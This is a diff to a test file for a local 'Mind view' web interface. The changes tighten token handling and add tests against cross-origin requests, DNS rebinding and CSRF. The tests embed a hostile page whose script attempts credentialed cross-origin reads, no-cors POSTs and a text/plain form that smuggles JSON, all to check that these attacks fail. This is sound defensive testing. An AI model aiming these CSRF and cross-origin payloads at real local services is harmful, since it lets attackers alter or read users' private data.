@@ -45,27 +45,77 @@ describe('Mind view', function () {
   const call = (path: string, init: RequestInit = {}) => fetch(`${base}${path}`, { ...init, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...(init.headers ?? {}) } });
 
   describe('API', () => {
-    it('prints its address with the token on the console', () => {
-      expect(rt.logs).to.include(`Mind view: http://127.0.0.1:${port}/?token=${token}`);
+    it('prints its address with the token in the fragment, which browsers never send', () => {
+      expect(rt.logs).to.include(`Mind view: http://127.0.0.1:${port}/#token=${token}`);
     });
 
-    it('answers 401 with no data without the token, or with a wrong one', async () => {
-      for (const path of ['/', '/api/notes', '/app.js']) {
+    it('answers 401 with no data unless the token comes in the Authorization header', async () => {
+      for (const path of ['/api/notes', '/api/scopes', '/api/entities?name=Ada', '/api/notes/export']) {
         const response = await fetch(`${base}${path}`);
         expect(response.status, path).to.equal(401);
+        expect((await response.json()).error.code).to.equal('MIRA_ERR_MIND_VIEW_TOKEN');
+      }
+      const wrong = [
+        { headers: { authorization: 'Bearer nope' } },
+        { headers: { authorization: `Bearer ${token}x` } },
+        // Neither a cookie nor a query parameter is a credential: browsers attach those on their own.
+        { headers: { cookie: `mira_token=${token}` } },
+      ];
+      for (const init of wrong) expect((await fetch(`${base}/api/notes`, init)).status).to.equal(401);
+      expect((await fetch(`${base}/api/notes?token=${token}`)).status).to.equal(401);
+      // The page itself holds no data and sets no cookie.
+      for (const path of ['/', '/app.js', '/app.css']) {
+        const response = await fetch(`${base}${path}`);
+        expect(response.status, path).to.equal(200);
+        expect(response.headers.get('set-cookie'), path).to.equal(null);
         expect(await response.text()).not.to.contain('Alice');
       }
-      expect((await fetch(`${base}/api/notes`, { headers: { authorization: 'Bearer nope' } })).status).to.equal(401);
-      expect((await fetch(`${base}/?token=${token}`)).status).to.equal(200);
+      expect((await call('/api/notes')).status).to.equal(200);
+    });
+
+    it('refuses an API request that a page of another origin made, even with the token', async () => {
+      const foreign = [
+        { origin: 'http://127.0.0.1:1' },
+        { origin: `http://localhost:${port}` },
+        { origin: 'null' },
+        { 'sec-fetch-site': 'same-site' },
+        { 'sec-fetch-site': 'cross-site' },
+      ];
+      for (const headers of foreign) {
+        for (const method of ['GET', 'POST']) {
+          const body = method === 'POST' ? JSON.stringify({ entity_type: 'person', canonical_name: 'Mallory' }) : undefined;
+          const response = await call(method === 'POST' ? '/api/entities' : '/api/notes', { method, body, headers });
+          expect(response.status, JSON.stringify(headers)).to.equal(403);
+          expect((await response.json()).error.code).to.equal('MIRA_ERR_MIND_VIEW_CROSS_ORIGIN');
+        }
+      }
+      expect((await call('/api/notes', { headers: { origin: base, 'sec-fetch-site': 'same-origin' } })).status).to.equal(200);
+      expect((await (await call('/api/entities?name=Mallory')).json()).entities).to.deep.equal([]);
+    });
+
+    it('serves on IPv6 loopback with a URL that is a URL and accepts its Host header', async () => {
+      const mind6 = createMindViewPlugin();
+      const rt6 = await createTestRuntime({ plugins: [memoryPlugin, mind6], tables: { memory: { enabled: true, database_path: 'memory.sqlite3' }, mind_view: { enabled: true, host: '::1', port: 0 } } });
+      try {
+        const server = mind6.handle.server!;
+        expect(rt6.logs).to.include(`Mind view: http://[::1]:${server.port}/#token=${server.token}`);
+        const url = new URL(server.url);
+        expect(url.host).to.equal(`[::1]:${server.port}`);
+        const response = await fetch(`http://[::1]:${server.port}/api/entities?name=Ada`, { headers: { authorization: `Bearer ${server.token}` } });
+        expect(response.status).to.equal(200);
+        expect(await response.json()).to.deep.equal({ entities: [] });
+      } finally {
+        await rt6.dispose();
+      }
     });
 
     it('refuses a foreign Host header (DNS rebinding) and sends a strict CSP', async () => {
       const { request } = await import('node:http');
       const status = await new Promise<number>((resolve) => {
-        request({ host: '127.0.0.1', port, path: `/api/notes?token=${token}`, headers: { host: `evil.example:${port}` } }, (res) => resolve(res.statusCode!)).end();
+        request({ host: '127.0.0.1', port, path: '/api/notes', headers: { host: `evil.example:${port}`, authorization: `Bearer ${token}` } }, (res) => resolve(res.statusCode!)).end();
       });
       expect(status).to.equal(403);
-      const page = await fetch(`${base}/?token=${token}`);
+      const page = await fetch(`${base}/`);
       expect(page.headers.get('content-security-policy')).to.equal(SECURITY_HEADERS['content-security-policy']);
       expect(await page.text()).not.to.match(/https?:\/\//); // no CDN, no external fonts
     });
@@ -133,11 +183,12 @@ describe('Mind view', function () {
     });
     after(async () => browser?.close());
     beforeEach(async () => {
-      page = await browser.newPage();
-      await page.goto(`${base}/?token=${token}`);
+      // One browser profile, as a person has: the Mind view and any other page share it.
+      page = await (await browser.newContext()).newPage();
+      await page.goto(`${base}/#token=${token}`);
       await page.waitForSelector('.card');
     });
-    afterEach(async () => page?.close());
+    afterEach(async () => page?.context().close());
 
     const cards = () => page.$$eval('.card .content', (nodes) => nodes.map((n) => n.textContent));
 
@@ -191,12 +242,88 @@ describe('Mind view', function () {
       expect(await page.textContent('#status')).to.equal('imported 0 notes, 4 already present');
     });
 
-    it('shows nothing but 401 without the token', async () => {
+    it('shows no data without the token, and says where to find it', async () => {
       const other = await browser.newPage();
-      const response = await other.goto(`${base}/`);
-      expect(response!.status()).to.equal(401);
+      await other.goto(`${base}/`);
+      await other.waitForFunction(() => document.getElementById('status')!.textContent !== '');
+      expect(await other.textContent('#status')).to.contain('open the address the console printed');
       expect(await other.content()).not.to.contain('Alice');
       await other.close();
+    });
+
+    it('takes the token out of the address bar and keeps working after a reload', async () => {
+      expect(page.url()).to.equal(`${base}/`);
+      await page.reload();
+      await page.waitForSelector('.card');
+      expect(await cards()).to.have.length(4);
+    });
+
+    it('gives a page on another local port nothing to read or change, and never the token', async () => {
+      const { createServer } = await import('node:http');
+      const seen: Array<{ url: string; headers: string }> = [];
+      const results: string[] = [];
+      // The hostile page tries every way a browser lets a page reach another local port.
+      const hostile = `<!doctype html><body><iframe name="sink"></iframe><script>
+        const base = ${JSON.stringify(base)};
+        const report = (what) => fetch('/report', { method: 'POST', body: what });
+        (async () => {
+          try { const r = await fetch(base + '/api/notes', { credentials: 'include' }); report('read ' + r.status + ' ' + (await r.text())); }
+          catch (e) { report('read blocked'); }
+          try { const r = await fetch(base + '/api/notes', { credentials: 'include', headers: { authorization: 'Bearer ' + (sessionStorage.getItem('mira_token') || 'guess') } }); report('read with header ' + r.status); }
+          catch (e) { report('read with header blocked'); }
+          await fetch(base + '/api/entities', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ entity_type: 'person', canonical_name: 'Mallory' }) }).catch(() => {});
+          await fetch(base + '/api/notes/combine', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ keep: 1, drop: 2 }) }).catch(() => {});
+          await fetch(base + '/api/notes/3', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).catch(() => {});
+          const form = document.createElement('form');
+          form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'sink'; form.action = base + '/api/entities';
+          const input = document.createElement('input');
+          input.name = '{"entity_type":"person","canonical_name":"Eve","x":"'; input.value = '"}';
+          form.append(input); document.body.append(form); form.submit();
+          await new Promise((resolve) => { const img = new Image(); img.onload = img.onerror = resolve; img.src = base + '/api/notes'; });
+          await new Promise((resolve) => setTimeout(resolve, 500));
+          report('done');
+        })();
+      </script></body>`;
+      const evil = createServer((req, res) => {
+        seen.push({ url: req.url ?? '', headers: JSON.stringify(req.headers) });
+        if (req.url === '/report') {
+          let text = '';
+          req.on('data', (chunk) => (text += chunk));
+          req.on('end', () => {
+            results.push(text);
+            res.end();
+          });
+          return;
+        }
+        res.writeHead(200, { 'content-type': 'text/html' });
+        res.end(hostile);
+      });
+      await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+      const evilPort = (evil.address() as { port: number }).port;
+      try {
+        // The operator has the Mind view open in the same browser profile.
+        expect(await cards()).to.have.length(4);
+        const attacker = await page.context().newPage();
+        await attacker.goto(`http://127.0.0.1:${evilPort}/`);
+        await attacker.waitForFunction(() => true);
+        const deadline = Date.now() + 10_000;
+        while (!results.includes('done') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+        await attacker.close();
+      } finally {
+        evil.closeAllConnections();
+        await new Promise<void>((resolve) => evil.close(() => resolve()));
+      }
+      expect(results).to.include('done');
+      expect(results).to.include('read blocked');
+      expect(results).to.include('read with header blocked');
+      expect(results.join('\n')).not.to.contain('Alice');
+      const store = rt.app.kernel.store<MemoryStore>('memory');
+      expect(await store.findEntities('Mallory')).to.deep.equal([]);
+      expect(await store.findEntities('Eve')).to.deep.equal([]);
+      const notes = rt.app.kernel.store<NotesStore>('notes');
+      expect(notes.recent({ scopes: ['default'], key: null, operator: true }, 100).map((n) => n.id)).to.deep.equal([4, 3, 2, 1]);
+      expect(seen.length).to.be.greaterThan(0);
+      for (const request of seen) expect(request.headers, request.url).not.to.contain(token);
     });
 
     it('shows an entity with its memories in the Entities tab', async () => {
